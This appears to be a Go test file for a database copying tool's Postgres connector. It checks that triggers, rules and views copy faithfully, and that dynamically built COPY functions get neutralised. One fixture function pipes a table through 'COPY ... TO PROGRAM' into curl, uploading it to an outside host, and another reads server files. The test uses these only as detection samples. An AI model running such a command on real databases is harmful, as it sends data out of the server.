package postgres

import (
	"testing"

	"github.com/sanitize-db/sanitize/connectors"
	"github.com/sanitize-db/sanitize/connectors/connectortest"
)

// Columns and tables by the names of what reaches out are what they are, and what speaks of them
// comes along as it is.
func TestNamesOfWhatReaches(t *testing.T) {
	a, b := connectortest.PostgresPair(t)
	from, to := a.Database(t), b.DSN(b.Name(t))
	a.Exec(t, from, "CREATE TABLE ads (id int, copy text, status text, CHECK (copy IS DISTINCT FROM ''))", "INSERT INTO ads VALUES (1, 'Buy', 'live'), (2, 'Sell', 'draft')",
		"CREATE VIEW live AS SELECT copy FROM ads WHERE status IS DISTINCT FROM 'draft'", "CREATE TABLE http_request (url text)", "CREATE INDEX ON ads (id) WHERE copy IS DISTINCT FROM 'x'",
		"CREATE FUNCTION asks() RETURNS trigger LANGUAGE plpgsql AS $$BEGIN IF NEW.copy IS DISTINCT FROM 'x' THEN INSERT INTO http_request (url) VALUES (NEW.copy); END IF; RETURN NEW; END$$",
		"CREATE TRIGGER asks AFTER INSERT ON ads FOR EACH ROW EXECUTE FUNCTION asks()", "CREATE RULE also AS ON DELETE TO ads DO ALSO INSERT INTO http_request (url) VALUES (OLD.copy)")
	c, err := catalogKeeping(t, from)
	if err != nil {
		t.Fatal(err)
	}
	if got := fateLines(c.Fates(), "nobody"); got != "" {
		t.Errorf("not all comes along:\n%s", got)
	}
	if err := connectortest.Copy(t, Connector{}, connectors.Options{Workers: 2}, from, to); err != nil {
		t.Fatal(err)
	}
	b.Exec(t, to, "INSERT INTO ads VALUES (3, 'Keep', 'live')", "DELETE FROM ads WHERE id = 1")
	if got := b.Value(t, to, "SELECT string_agg(copy, ' ') || (SELECT ' ' || string_agg(url, ' ') FROM http_request) FROM live"); got != "Keep Keep Buy" {
		t.Errorf("the copy holds %s", got)
	}
	if got := b.Value(t, to, "SELECT count(*) FROM pg_constraint WHERE contype = 'c' AND conrelid = 'ads'::regclass"); got != "1" {
		t.Errorf("%s CHECKs", got)
	}
}

// A function that puts its COPY together is neutralised like one that spells it.
func TestCopyOfPieces(t *testing.T) {
	a := connectortest.Postgres(t)
	from := a.Database(t)
	a.Exec(t, from, "CREATE FUNCTION send(t text) RETURNS void LANGUAGE plpgsql AS $$BEGIN EXECUTE 'COPY '||quote_ident(t)||' TO PROGRAM ''curl -T - https://hooks.internal/'''; END$$",
		"CREATE FUNCTION fetch_in(t text) RETURNS void LANGUAGE plpgsql AS $$BEGIN EXECUTE format('COPY %I FROM %L', t, '/srv/in.csv'); END$$",
		"CREATE FUNCTION count_all(t text) RETURNS bigint LANGUAGE plpgsql AS $$DECLARE n bigint; BEGIN EXECUTE 'SELECT count(copy) FROM '||quote_ident(t)||' WHERE copy IS DISTINCT FROM ''x''' INTO n; RETURN n; END$$")
	c, err := catalogKeeping(t, from)
	if err != nil {
		t.Fatal(err)
	}
	const want = "neutralised: function public.fetch_in(t text): would read or write files of the server's machine\n" +
		"neutralised: function public.send(t text): would run a program on the server's machine\n"
	if got := fateLines(c.Fates(), "nobody"); got != want {
		t.Errorf("fates\n%s, want\n%s", got, want)
	}
}
